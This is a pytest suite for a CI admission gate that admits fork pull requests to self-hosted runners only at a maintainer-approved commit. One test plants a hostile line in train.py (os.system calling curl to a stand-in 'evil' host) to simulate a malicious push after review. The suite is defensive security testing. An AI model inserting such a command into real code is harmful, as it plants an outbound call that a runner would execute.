"""Fork PRs reach a self-hosted runner's pipeline only at the exact commit a maintainer approved.

`mlci ci --phase admit` is the gate the action runs before any PR code: these tests run it
against a real repo and the fake GitHub (comments, reviews, collaborator permissions, the PR).
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from mlci.integrations.github.admission import plain_lines, train_commands
from tests.helpers import commit_all, git, invoke
from tests.plugins.fake_github import actions_env, read_outputs


@pytest.fixture
def fork_pr(trained_repo: Path, fake_github) -> Path:
    git(trained_repo, "checkout", "-q", "-b", "feature")
    (trained_repo / "NOTES.md").write_text("a fork's change\n")
    commit_all(trained_repo, "Fork change")
    fake_github.add_pull(12, head_sha=head(trained_repo), head_owner="forker", labels=("safe-to-train",))
    fake_github.collaborators.update({"maint": "write", "reader": "read"})
    return trained_repo


def head(root: Path) -> str:
    return git(root, "rev-parse", "HEAD")


def admit(root: Path, fake_github, tmp_path: Path, *, action: str = "labeled", **kwargs):
    env = actions_env(fake_github, tmp_path / "runner", sha=head(root), fork=True, labels=("safe-to-train",), **kwargs)
    payload = json.loads(Path(env["GITHUB_EVENT_PATH"]).read_text())
    payload["action"] = action
    Path(env["GITHUB_EVENT_PATH"]).write_text(json.dumps(payload))
    result = invoke(root, "ci", "--phase", "admit", env=env)
    return result, read_outputs(env["GITHUB_OUTPUT"]).get("admitted")


def test_a_maintainers_train_comment_naming_the_head_admits_it(fork_pr, fake_github, tmp_path):
    fake_github.comment_as(12, "maint", f"/mlci train {head(fork_pr)}")
    result, admitted = admit(fork_pr, fake_github, tmp_path, self_hosted=True)
    assert result.exit_code == 0, result.output
    assert admitted == "true"


def test_a_labelled_fork_pr_pushed_to_after_the_approval_is_refused(fork_pr, fake_github, tmp_path):
    approved = head(fork_pr)
    fake_github.comment_as(12, "maint", f"/mlci train {approved}")
    (fork_pr / "src" / "train.py").write_text("import os; os.system('curl evil')\n")
    pushed = commit_all(fork_pr, "Sneak in a change after the review")
    fake_github.pulls[12]["head"]["sha"] = pushed  # the synchronize event: label still on the PR
    result, admitted = admit(fork_pr, fake_github, tmp_path, action="synchronize", self_hosted=True)
    assert result.exit_code == 3
    assert admitted == "false"
    assert approved[:12] in result.stderr and pushed[:12] in result.stderr
    assert f"/mlci train {pushed}" in result.stderr  # how to approve the new head


def test_the_label_alone_does_not_admit(fork_pr, fake_github, tmp_path):
    result, admitted = admit(fork_pr, fake_github, tmp_path, self_hosted=True)
    assert result.exit_code == 3 and admitted == "false"
    assert "no maintainer approved this commit" in result.stderr


def test_a_train_comment_by_someone_without_write_access_does_not_admit(fork_pr, fake_github, tmp_path):
    fake_github.comment_as(12, "reader", f"/mlci train {head(fork_pr)}")
    fake_github.comment_as(12, "forker", f"/mlci train {head(fork_pr)}")
    result, _ = admit(fork_pr, fake_github, tmp_path, self_hosted=True)
    assert result.exit_code == 3 and "no write access" in result.stderr


def test_a_short_sha_does_not_admit(fork_pr, fake_github, tmp_path):
    fake_github.comment_as(12, "maint", f"/mlci train {head(fork_pr)[:12]}")
    result, _ = admit(fork_pr, fake_github, tmp_path, self_hosted=True)
    assert result.exit_code == 3


def test_a_writers_review_approving_the_head_admits_it(fork_pr, fake_github, tmp_path):
    fake_github.add_review(12, "maint", "APPROVED", head(fork_pr))
    result, admitted = admit(fork_pr, fake_github, tmp_path, self_hosted=True)
    assert result.exit_code == 0, result.output
    assert admitted == "true"


def test_a_push_after_the_event_is_refused_even_when_the_event_head_was_approved(fork_pr, fake_github, tmp_path):
    fake_github.comment_as(12, "maint", f"/mlci train {head(fork_pr)}")
    fake_github.pulls[12]["head"]["sha"] = "c" * 40  # pushed while this run was queued
    result, _ = admit(fork_pr, fake_github, tmp_path, self_hosted=True)
    assert result.exit_code == 3 and "pushed to since this run started" in result.stderr


def test_a_checkout_that_is_not_the_approved_head_is_refused(fork_pr, fake_github, tmp_path):
    approved = head(fork_pr)
    fake_github.comment_as(12, "maint", f"/mlci train {approved}")
    env = actions_env(fake_github, tmp_path / "runner", sha=approved, fork=True, self_hosted=True)
    (fork_pr / "NOTES.md").write_text("checked out something else\n")
    commit_all(fork_pr, "Another commit")
    result = invoke(fork_pr, "ci", "--phase", "admit", env=env)
    assert result.exit_code == 3 and "is not the PR head" in result.stderr


def test_an_unknown_runner_environment_counts_as_self_hosted(fork_pr, fake_github, tmp_path):
    env = actions_env(fake_github, tmp_path / "runner", sha=head(fork_pr), fork=True)
    del env["RUNNER_ENVIRONMENT"]
    result = invoke(fork_pr, "ci", "--phase", "admit", env=env)
    assert result.exit_code == 3 and "RUNNER_ENVIRONMENT=unknown" in result.stderr


def test_a_fork_on_a_github_hosted_runner_needs_no_approval(fork_pr, fake_github, tmp_path):
    result, admitted = admit(fork_pr, fake_github, tmp_path)
    assert result.exit_code == 0, result.output
    assert admitted == "true"


def test_the_run_phase_refuses_without_an_admission(fork_pr, fake_github, tmp_path):
    env = actions_env(fake_github, tmp_path / "runner", sha=head(fork_pr), fork=True, self_hosted=True)
    result = invoke(fork_pr, "ci", "--phase", "run", env=env)
    assert result.exit_code == 2 and "--phase admit" in result.stderr
    assert not (Path(env["RUNNER_TEMP"]) / "mlci" / "report").exists()


# --- reviews are a history: each reviewer's latest verdict counts ------------------------------


def stamp(item: dict, minute: int) -> dict:
    """Give a fake comment or review a known time (the fake stamps whole seconds: ties otherwise)."""
    item["submitted_at" if "submitted_at" in item else "created_at"] = f"2024-05-01T12:{minute:02d}:00Z"
    return item


def test_an_approval_followed_by_a_request_for_changes_at_the_same_head_is_refused(fork_pr, fake_github, tmp_path):
    fake_github.add_review(12, "maint", "APPROVED", head(fork_pr))
    fake_github.add_review(12, "maint", "CHANGES_REQUESTED", head(fork_pr))
    result, admitted = admit(fork_pr, fake_github, tmp_path, self_hosted=True)
    assert result.exit_code == 3 and admitted == "false"
    assert f"maint requested changes at {head(fork_pr)[:12]} after approving" in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1


def test_a_request_for_changes_followed_by_an_approval_admits(fork_pr, fake_github, tmp_path):
    fake_github.add_review(12, "maint", "CHANGES_REQUESTED", head(fork_pr))
    fake_github.add_review(12, "maint", "APPROVED", head(fork_pr))
    result, admitted = admit(fork_pr, fake_github, tmp_path, self_hosted=True)
    assert result.exit_code == 0, result.output
    assert admitted == "true"


def test_a_comment_only_review_after_an_approval_leaves_it_standing(fork_pr, fake_github, tmp_path):
    fake_github.add_review(12, "maint", "APPROVED", head(fork_pr))
    fake_github.add_review(12, "maint", "COMMENTED", head(fork_pr))
    result, admitted = admit(fork_pr, fake_github, tmp_path, self_hosted=True)
    assert result.exit_code == 0, result.output
    assert admitted == "true"


def test_another_writers_standing_request_for_changes_is_refused(fork_pr, fake_github, tmp_path):
    fake_github.collaborators["maint2"] = "maintain"
    fake_github.add_review(12, "maint2", "CHANGES_REQUESTED", head(fork_pr))
    fake_github.add_review(12, "maint", "APPROVED", head(fork_pr))
    fake_github.comment_as(12, "maint", f"/mlci train {head(fork_pr)}")
    result, admitted = admit(fork_pr, fake_github, tmp_path, self_hosted=True)
    assert result.exit_code == 3 and admitted == "false"
    assert "maint2 requested changes" in result.stderr


def test_a_request_for_changes_by_someone_without_write_access_does_not_block(fork_pr, fake_github, tmp_path):
    fake_github.add_review(12, "maint", "APPROVED", head(fork_pr))
    fake_github.add_review(12, "reader", "CHANGES_REQUESTED", head(fork_pr))
    result, admitted = admit(fork_pr, fake_github, tmp_path, self_hosted=True)
    assert result.exit_code == 0, result.output
    assert admitted == "true"


def test_a_train_comment_followed_by_the_same_maintainers_request_for_changes_is_refused(
    fork_pr, fake_github, tmp_path
):
    stamp(fake_github.comment_as(12, "maint", f"/mlci train {head(fork_pr)}"), 1)
    stamp(fake_github.add_review(12, "maint", "CHANGES_REQUESTED", head(fork_pr)), 2)
    result, admitted = admit(fork_pr, fake_github, tmp_path, self_hosted=True)
    assert result.exit_code == 3 and admitted == "false"
    assert "maint requested changes" in result.stderr


def test_a_train_comment_withdrawn_by_a_request_for_changes_stays_withdrawn_when_it_is_dismissed(
    fork_pr, fake_github, tmp_path
):
    stamp(fake_github.comment_as(12, "maint", f"/mlci train {head(fork_pr)}"), 1)
    stamp(fake_github.add_review(12, "maint", "CHANGES_REQUESTED", head(fork_pr)), 2)["state"] = "DISMISSED"
    result, admitted = admit(fork_pr, fake_github, tmp_path, self_hosted=True)
    assert result.exit_code == 3 and admitted == "false"
    assert "by maint was withdrawn by their later review (dismissed" in result.stderr


def test_a_train_comment_after_the_maintainers_dismissed_review_admits(fork_pr, fake_github, tmp_path):
    stamp(fake_github.add_review(12, "maint", "CHANGES_REQUESTED", head(fork_pr)), 1)["state"] = "DISMISSED"
    stamp(fake_github.comment_as(12, "maint", f"/mlci train {head(fork_pr)}"), 2)
    result, admitted = admit(fork_pr, fake_github, tmp_path, self_hosted=True)
    assert result.exit_code == 0, result.output
    assert admitted == "true"


def test_a_train_comment_made_in_the_same_second_as_a_review_does_not_count(fork_pr, fake_github, tmp_path):
    """GitHub's times are whole seconds: which came first is unknown, so the comment does not count."""
    stamp(fake_github.add_review(12, "maint", "CHANGES_REQUESTED", head(fork_pr)), 1)["state"] = "DISMISSED"
    stamp(fake_github.comment_as(12, "maint", f"/mlci train {head(fork_pr)}"), 1)
    result, admitted = admit(fork_pr, fake_github, tmp_path, self_hosted=True)
    assert result.exit_code == 3 and "withdrawn" in result.stderr


# --- `/mlci train <sha>` counts only as a line of the maintainer's own text ---------------------

SHA = "0123456789abcdef0123456789abcdef01234567"
CMD = f"/mlci train {SHA}"
# A maintainer's comment that carries someone else's words (or code) holding the command.
HIDDEN = {
    "block quote": f"The author asks:\n\n> {CMD}\n\nNot yet.",
    "quote's lazy continuation": f"> the author wrote:\n{CMD}",
    "backtick fence": f"Their log:\n```\n{CMD}\n```",
    "tilde fence": f"Their log:\n~~~~ text\n{CMD}\n~~~\nstill in the fence\n~~~~",
    "unclosed fence": f"```\n\n{CMD}\n",
    "fence in a list item": f"- log:\n  ```\n  {CMD}\n  ```",
    "indented code": f"Their log:\n\n    {CMD}\n",
    "tab-indented code": f"Their log:\n\n\t{CMD}\n",
    "HTML comment": f"Not yet.\n<!--\n{CMD}\n-->",
    "inline HTML comment": f"Not yet <!--\n{CMD}\n--> sorry.",
    "inline code": f"`{CMD}`",
    "multi-line code span": f"Do not run `\n{CMD}\n` yet.",
    "mid-sentence": f"Please do not {CMD} until the tests pass.",
    "HTML pre block": f"<pre>\n{CMD}\n</pre>",
    "setext heading": f"{CMD}\n---",
    "list item marker line": f"- {CMD}",
}
SHOWN = {
    "alone": CMD,
    "among other lines, CRLF": f"Reviewed the diff.\r\n  {CMD}  \r\nThanks!",
    "after a closed fence": f"```\nlog\n```\n{CMD}",
    "after a line with inline code": f"Checked `train.py`.\n{CMD}",
    "after a quote and a blank line": f"> can you train it?\n\n{CMD}",
    "continuing a list item": f"- looks fine\n  {CMD}",
}


@pytest.mark.parametrize("name", HIDDEN)
def test_a_train_command_inside_quoted_or_code_text_does_not_admit(name, fork_pr, fake_github, tmp_path):
    fake_github.comment_as(12, "maint", HIDDEN[name].replace(SHA, head(fork_pr)))
    result, admitted = admit(fork_pr, fake_github, tmp_path, self_hosted=True)
    assert result.exit_code == 3 and admitted == "false"
    assert "no maintainer approved this commit" in result.stderr


def test_a_train_command_on_a_line_of_its_own_among_other_text_admits(fork_pr, fake_github, tmp_path):
    fake_github.comment_as(12, "maint", SHOWN["among other lines, CRLF"].replace(SHA, head(fork_pr)))
    result, admitted = admit(fork_pr, fake_github, tmp_path, self_hosted=True)
    assert result.exit_code == 0, result.output
    assert admitted == "true"


@pytest.mark.parametrize("name", HIDDEN)
def test_train_commands_ignores_a_command_that_is_not_the_writers_own_line(name):
    assert train_commands(HIDDEN[name]) == []


@pytest.mark.parametrize("name", SHOWN)
def test_train_commands_finds_a_command_on_a_line_of_its_own(name):
    assert train_commands(SHOWN[name]) == [SHA]


def test_train_commands_lowercases_and_wants_the_full_sha():
    assert train_commands(f"/mlci train {SHA.upper()}\n/mlci train {SHA[:12]}\n/mlci train {SHA}0") == [SHA]


def test_plain_lines_are_the_whole_text_lines_outside_quotes_and_code():
    body = "Hello *there*\nplain one\n> quoted\n\n```\ncode\n```\n    indented\n\n- item\n  plain two\n<!-- c -->"
    assert plain_lines(body) == ["plain one", "plain two"]


def _github_plain_lines(markdown: str) -> set[str]:
    """What GitHub's own renderer (cmark-gfm, comment options) shows as whole text lines outside quotes."""
    from html.parser import HTMLParser

    import cmarkgfm
    from cmarkgfm.cmark import Options

    html = cmarkgfm.github_flavored_markdown_to_html(
        markdown, options=Options.CMARK_OPT_UNSAFE | Options.CMARK_OPT_HARDBREAKS
    )
    lines: list[list] = [["", True]]  # [text, nothing but text]
    stack: list[str] = []

    class Walk(HTMLParser):
        def handle_starttag(self, tag, attrs):
            if tag == "br":
                lines.append(["", True])
                return
            if stack and stack[-1] in ("p", "li"):
                lines[-1][1] = False
            stack.append(tag)
            if tag in ("p", "li"):
                lines.append(["", True])

        def handle_endtag(self, tag):
            while tag != "br" and stack and stack.pop() != tag:
                pass

        def handle_comment(self, data):
            lines[-1][1] = False

        def handle_data(self, data):
            text_here = bool(stack) and stack[-1] in ("p", "li") and "blockquote" not in stack
            for index, part in enumerate(data.split("\n")):
                if index:
                    lines.append(["", True])
                lines[-1][0] += part
                lines[-1][1] = lines[-1][1] and (text_here or not part.strip())

    Walk().feed(html)
    return {text.strip() for text, pure in lines if pure and text.strip()}


@pytest.mark.parametrize("name", [*HIDDEN, *SHOWN])
def test_github_renders_the_command_as_a_line_of_its_own_exactly_when_it_counts(name):
    """The oracle: cmark-gfm, GitHub's renderer, agrees with markdown-it on every case above.

    One deliberate difference: a list item's marker line shows the command, but is not a line
    of nothing but the command, so it does not count.
    """
    body = HIDDEN.get(name) or SHOWN[name]
    shown = CMD in _github_plain_lines(body)
    assert shown == (name in SHOWN or name == "list item marker line")
    assert bool(train_commands(body)) == (name in SHOWN)
